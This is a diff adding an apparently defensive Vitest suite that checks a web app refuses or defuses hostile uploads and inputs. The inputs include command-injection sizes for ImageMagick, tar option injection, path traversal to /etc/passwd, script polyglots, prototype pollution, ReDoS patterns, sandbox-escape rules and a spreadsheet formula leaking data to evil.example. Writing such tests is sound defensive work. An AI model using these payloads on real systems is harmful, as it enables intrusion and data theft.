@@ -1,0 +1,193 @@
+import { existsSync } from 'node:fs';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { expectThumbnails, honestUse, listed, sendAlbum, setRule } from './testing/honest-use.ts';
+import { aliasBomb, hugePng, pdf, picture, pngSignature, productsJson } from './testing/samples.ts';
+import { type Site, startSite } from './testing/start-site.ts';
+import { zip } from './testing/zip.ts';
+
+const noMagick = existsSync('/usr/bin/magick') ? '' : ': it is not installed';
+
+const search = (site: Site, pattern: string): Promise<Response> =>
+  site.as('ada', `/products?q=${encodeURIComponent(pattern)}`);
+
+const importProducts = (site: Site, name: string, content: string, user = 'admin'): Promise<Response> =>
+  site.upload(user, '/products', 'products', name, content);
+
+const script = '<script>fetch("/products", { method: "post" })</script>';
+const page = `<!doctype html>${script}`;
+const svg = `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`;
+
+describe('the site with Bulwark', () => {
+  let site: Site;
+  beforeAll(async () => {
+    site = await startSite(() => import('./app.ts'));
+  });
+  afterAll(() => site?.close());
+
+  honestUse(() => site);
+  test.skipIf(noMagick)(`makes thumbnails, and passes no option to ImageMagick${noMagick}`, async () => {
+    const url = await sendAlbum(site, { name: 'sea.png', content: await picture('png', 300) });
+    const before = await site.files();
+    await expectThumbnails(site, url);
+    for (const size of ['-write', '20x20 -write evil.png', '@/etc/passwd', '20x20;id', '$(id)']) {
+      const path = `${url}/thumbnails/sea.png?size=${encodeURIComponent(size)}`;
+      expect((await site.as('ada', path)).status).toBe(400);
+    }
+    expect(await site.files()).toEqual(before);
+  });
+
+  describe('refuses, and keeps no file of', () => {
+    let before: string[];
+    beforeEach(async () => {
+      before = await site.files();
+    });
+    afterEach(async () => expect(await site.files()).toEqual(before));
+
+    test.each([
+      ['a page as a photo', 'photo.png', page],
+      ['a page with its own extension', 'photo.html', page],
+      ['an SVG as a photo', 'photo.png', svg],
+      ['an SVG with its own extension', 'photo.svg', svg],
+      ['a GIF that is also a script', 'photo.png', 'GIF89a/*\0\0*/=alert(1)//'],
+      ['a page behind the signature of a PNG', 'photo.png', Buffer.concat([pngSignature, Buffer.from(page)])],
+      ['a PNG of 40,000 by 40,000 pixels', 'photo.png', hugePng],
+    ])('%s', async (_what, name, content) => {
+      const { status } = await site.upload('ada', '/photo', 'photo', name, content);
+      expect(status).toBeGreaterThanOrEqual(413);
+      expect(status).toBeLessThanOrEqual(422);
+    });
+
+    test.each([
+      ['a page called a PDF', 'plan.pdf', page],
+      ['a PDF called a page', 'plan.html', pdf],
+      ['a zip called a docx', 'plan.docx', zip({ name: 'a.txt', content: 'a' })],
+    ])('%s', async (_what, name, content) => {
+      expect((await site.upload('ada', '/documents', 'document', name, content)).status).toBe(415);
+    });
+
+    test('a document of more than 5 MB', async () => {
+      const large = Buffer.concat([pdf, Buffer.alloc(5_000_000)]);
+      expect((await site.upload('ada', '/documents', 'document', 'plan.pdf', large)).status).toBe(413);
+    });
+
+    test('a document that another site makes the browser send', async () => {
+      const body = new FormData();
+      body.set('document', new Blob([Buffer.from(pdf)]), 'plan.pdf');
+      const headers = { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' };
+      expect((await site.as('ada', '/documents', { method: 'POST', body, headers })).status).toBe(403);
+    });
+
+    test('products of a user who may not import them', async () => {
+      expect((await importProducts(site, 'list.json', productsJson, 'ada')).status).toBe(403);
+    });
+
+    test.each([
+      ['an alias bomb', 'list.yaml', aliasBomb],
+      ['a function in YAML', 'list.yaml', '- !!js/function "function () {}"'],
+      ['__proto__ in YAML', 'list.yaml', '- __proto__: { admin: true }'],
+      ['__proto__ in JSON', 'list.json', '[{ "__proto__": { "admin": true } }]'],
+      ['__proto__ in CSV', 'list.csv', '__proto__,name\r\nadmin,true'],
+      ['a price that is text', 'list.json', productsJson.replace('80', '"cheap"')],
+      ['100,000 levels of JSON', 'list.json', '['.repeat(100_000) + ']'.repeat(100_000)],
+    ])('%s', async (_what, name, content) => {
+      const imported = await (await site.as('ada', '/products')).json();
+      const { status } = await importProducts(site, name, content);
+      expect([400, 413, 422]).toContain(status);
+      expect(await (await site.as('ada', '/products')).json()).toEqual(imported);
+      expect({}).not.toHaveProperty('admin');
+    });
+
+    test.each([
+      ['a path out of the folder', { name: '../../evil.png' }],
+      ['a symbolic link', { name: 'link.png', content: '/etc/passwd', link: true }],
+      ['a page called a photo', { name: 'page.png', content: page }],
+      ['30 MB of nothing', { name: 'zeros.png', content: Buffer.alloc(30_000_000) }],
+    ])('a zip with %s', async (_what, entry) => {
+      const content = await picture('png');
+      const photos = zip({ content, ...entry }, { name: 'sea.png', content });
+      const { status } = await site.upload('ada', '/albums', 'photos', 'trip.zip', photos);
+      expect([400, 413, 415, 422]).toContain(status);
+    });
+
+    test.each([
+      '/..%2fpackage.json',
+      '/%2e%2e%2fapp.ts',
+      '/photos/..%2f..%2f..%2fetc%2fpasswd',
+      '/documents/..%2f..%2f..%2f..%2fetc%2fpasswd',
+      '/albums/..%2f..%2f..%2fetc',
+      '/albums/..%2fuploads/archive',
+      '/albums/x/photos/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
+      '/albums/x/thumbnails/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd',
+    ])('a path out of the folder: %s', async (path) => {
+      const response = await site.as('ada', path);
+      expect([400, 404]).toContain(response.status);
+      expect(await response.text()).not.toContain('root:');
+    });
+
+    test.each([
+      "name.constructor.constructor('return process')().exit()",
+      "price['__pro' + 'to__']",
+      '(() => process.exit())()',
+      'process.exit()',
+      '"a".repeat(1e9)',
+    ])('the rule %s', async (rule) => {
+      expect([400, 422]).toContain((await setRule(site, 'admin', rule)).status);
+    });
+
+    test.each(['(?=a)', '(a)\\1', '(a{1,900}){900}', '('])('the pattern %s', async (pattern) => {
+      expect([400, 422]).toContain((await search(site, pattern)).status);
+    });
+  });
+
+  describe('makes harmless', () => {
+    test('a photo with a page behind its end', async () => {
+      const polyglot = Buffer.concat([await picture('png'), Buffer.from(page)]);
+      expect((await site.upload('ada', '/photo', 'photo', '../../../photo.png', polyglot)).status).toBe(201);
+      const shown = await site.as('ada', '/users/ada/photo');
+      expect(await shown.text()).not.toContain('script');
+      expect(shown.headers.get('content-security-policy')).toContain('sandbox');
+      expect((await site.files()).filter((name) => !/^\/data\/(uploads|albums)\//.test(name))).toEqual([]);
+    });
+
+    test('a PDF with a page in it', async () => {
+      const sent = await site.upload(
+        'ada',
+        '/documents',
+        'document',
+        'plan.pdf',
+        Buffer.concat([pdf, Buffer.from(page)]),
+      );
+      const { headers } = await site.as('ada', (await sent.json()).url);
+      expect(headers.get('content-type')).toBe('application/pdf');
+      expect(headers.get('content-disposition')).toMatch(/^attachment/);
+      expect(headers.get('x-content-type-options')).toBe('nosniff');
+    });
+
+    test('a formula in the export', async () => {
+      const name = '=HYPERLINK("https://evil.example?"&A1)';
+      await importProducts(
+        site,
+        'list.json',
+        JSON.stringify([{ sku: 'A-1', name, category: '', price: -1 }]),
+      );
+      const csv = await (await site.as('ada', '/products.csv')).text();
+      expect(csv.split('\r\n')[1]).toBe(`A-1,"'=HYPERLINK(""https://evil.example?""&A1)",,-1`);
+    });
+
+    test('a pattern that would take years', async () => {
+      const list = [{ sku: 'A-1', name: `${'a'.repeat(60)}!`, category: '', price: 1 }];
+      await importProducts(site, 'list.json', JSON.stringify(list));
+      expect(await (await search(site, '^(a+)+$')).json()).toEqual([]);
+    });
+
+    test('a photo whose name is an option of tar', async () => {
+      const content = await picture('png');
+      const names = ['--checkpoint-action=exec=touch hacked.png'];
+      const url = await sendAlbum(site, ...names.map((name) => ({ name, content })));
+      expect(await (await site.as('ada', url)).json()).toEqual(names);
+      expect(await listed(await site.as('ada', `${url}/archive`))).toEqual(names);
+      expect((await site.as('ada', `${url}/archive?name=--to-command=id`)).status).toBe(404);
+      expect((await site.files()).filter((name) => name.endsWith('hacked'))).toEqual([]);
+    });
+  });
+});
